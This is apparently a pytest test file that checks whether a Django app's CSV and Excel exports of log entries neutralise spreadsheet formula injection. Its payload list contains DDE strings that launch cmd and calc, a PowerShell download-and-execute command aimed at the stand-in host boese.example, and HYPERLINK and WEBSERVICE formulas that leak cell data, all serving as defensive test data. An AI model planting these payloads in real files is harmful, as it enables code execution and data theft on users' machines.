"""T19: no text of ours becomes a formula in anybody's spreadsheet, and none is lost on the way."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
import xlsxwriter
from django.urls import reverse

from engagements.exports import log
from engagements.models import LogEntry
from tests.factories.accounts import UserFactory
from tests.factories.engagements import EngagementFactory, LogEntryFactory
from tests.factories.stakeholders import OrganisationFactory, PersonFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget boese.example/x)'!A1",
    '=HYPERLINK("https://boese.example?"&A1,"hier")',
    '=WEBSERVICE("https://boese.example/"&B2)',
    '=IMPORTXML("https://boese.example","//a")',
    '=IMPORTDATA("https://boese.example")',
    "='file:///etc/passwd'#$passwd.A1",
    '=DDE("cmd";"/C calc";"x")',
    '=MSEXCEL|"\\..\\..\\Windows\\System32\\cmd.exe /c calc"!""',
    "=@SUM(1)",
    "==1+1",
    "=",
    "= 1+1",
    "+1+1",
    "+49 30 1234567",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- ein Spiegelstrich",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@lle gemeinsam",
    " =1+1",
    "   +1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(1)",
    "\u00a0=1+1",
    "\u2003-1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '"=1+1',
    '";=1+1;"',
    "{=1+1}",
    "\x1d=1+1",
]
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.fixture
def diary(client):
    """Each payload in every free text of an entry and in the names beside it."""
    lead = UserFactory(name="=1+1")
    engagement = EngagementFactory(lead=lead)
    for payload in PAYLOADS:
        entry = LogEntryFactory(engagement=engagement, title=payload, text=payload, source=payload, author=lead)
        entry.persons.add(PersonFactory(room=engagement.room, name=payload))
        entry.organisations.add(OrganisationFactory(room=engagement.room, name=payload))
        LogEntry.objects.filter(pk=entry.pk).update(when=payload)
    client.force_login(lead)
    return lambda form: client.get(reverse("engagements:log-export", args=[engagement.pk, form])).content


def cells_of(content):
    return [
        cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";") for cell in row
    ]


def calculated(content):
    """The cells of a CSV which a spreadsheet would take for a formula."""
    return [cell for cell in cells_of(content) if re.match(rf"[\s\x00-\x20]*[{re.escape(SIGNS)}]", cell)]


def formulas(content):
    """Whatever a workbook calculates, links to or fetches."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = "".join(book.read(name).decode() for name in book.namelist() if "worksheets/" in name)
        names = [name for name in book.namelist() if re.search("externalLink|connections|vba|calcChain", name)]
    return re.findall(r"<f[ />]|<hyperlink", sheets) + names


def test_there_are_forty():
    assert len(set(PAYLOADS)) >= 40


def test_the_csv_calculates_nothing_and_keeps_the_words(diary):
    content = diary("csv")
    kept = {cell.removeprefix("'") for cell in cells_of(content)}

    assert calculated(content) == []
    assert {payload for payload in PAYLOADS if payload not in kept} == set()


def test_the_workbook_calculates_nothing_and_keeps_the_words(diary):
    content = diary("xlsx")
    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    kept = {unescaped(str(cell.value)) for row in rows for cell in row}

    assert formulas(content) == []
    assert {cell.data_type for row in rows for cell in row} <= {"s", "n"}
    assert {payload for payload in PAYLOADS if lines(payload) not in {lines(text) for text in kept}} == set()


def unescaped(text):
    """A sign XML has no place for stands as _x001D_ in a workbook; Excel reads it back."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def lines(text):
    """XML knows one kind of line end."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_without_the_apostrophe_the_csv_would_be_red(diary, monkeypatch):
    monkeypatch.setattr(log, "harmless", lambda value: value)

    assert len(calculated(diary("csv"))) > 100


def test_a_workbook_that_guesses_would_be_red(diary, monkeypatch):
    real = xlsxwriter.Workbook
    monkeypatch.setattr(xlsxwriter, "Workbook", lambda out, options: real(out, {"in_memory": True}))
    monkeypatch.setattr(
        log, "write_cell", lambda sheet, row, column, value, style: sheet.write(row, column, value, style)
    )

    assert formulas(diary("xlsx"))
